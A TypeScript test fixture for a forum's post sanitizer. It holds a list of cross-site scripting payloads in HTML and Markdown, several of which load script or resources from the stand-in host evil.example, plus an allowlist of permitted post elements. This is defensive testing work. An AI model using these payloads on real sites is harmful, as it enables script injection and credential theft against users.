// Strings that would run a script, redirect to another site or break out of their element if posts could contain any element.
import { literals } from './hostile-inputs.ts';

/** A URL that no page may ever request. */
const EVIL = 'https://evil.example';

const HTML = [
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  `<script src=${EVIL}/x.js></script>`,
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><script>alert&#40;1)</script></svg>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><button>Sign in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<textarea><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<x contenteditable onblur=alert(1) tabindex=1 id=x>',
  '"><img src=x onerror=alert(1)>',
  "'-alert(1)-'",
  '</pre></code></div><script>alert(1)</script>',
  '<div id="app"></div><script id="__data">{}</script>',
];

const MARKDOWN = [
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](java\nscript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](&#x6A;&#x61;vascript:alert(1))',
  '[x](\tjavascript:alert(1))',
  '[x](https://a.example "onmouseover=alert(1)")',
  '[x](https://a.example" onmouseover="alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](https://evil.example/x.png)',
  '![x](//evil.example/x.png)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![" onerror="alert(1)](/public/forum/x.webp)',
  '![x](/public/forum/../../api/auth/logout)',
  '[![x](https://evil.example/x.png)](javascript:alert(1))',
  '<https://evil.example/"onclick=alert(1)>',
  'https://evil.example/"onclick="alert(1)',
  'https://evil.example/<img src=x onerror=alert(1)>',
  '@<img/src=x onerror=alert(1)>',
  '@admin"onclick="alert(1)',
  '`<img src=x onerror=alert(1)>`',
  '```"><script>alert(1)</script>\nx\n```',
  '~~~js onload=alert(1)\n</code><script>alert(1)</script>\n~~~',
  '| <img src=x onerror=alert(1)> |\n|-|\n| [x](javascript:alert(1)) |',
  '> <script>alert(1)</script>\n> [x](vbscript:x)',
  '1. <svg onload=alert(1)>\n2. [x](file:///etc/passwd)',
  '# <img src=x onerror=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
];

export const scriptPayloads: readonly string[] = [
  ...literals('markdown').map(({ input }) => input),
  ...HTML,
  ...MARKDOWN,
];

/** Elements that posts may contain, with their attributes; pictures may only come from this site. */
export const POST_ELEMENTS: Readonly<Record<string, readonly string[]>> = {
  ...Object.fromEntries(
    'p br hr strong em s code blockquote ul li h2 h3 h4 table thead tbody tr th td'.split(' ').map((tag) => [tag, []]),
  ),
  a: ['href', 'rel'],
  ol: ['start'],
  pre: ['tabindex'],
  img: ['src', 'alt', 'width', 'height', 'loading'],
};
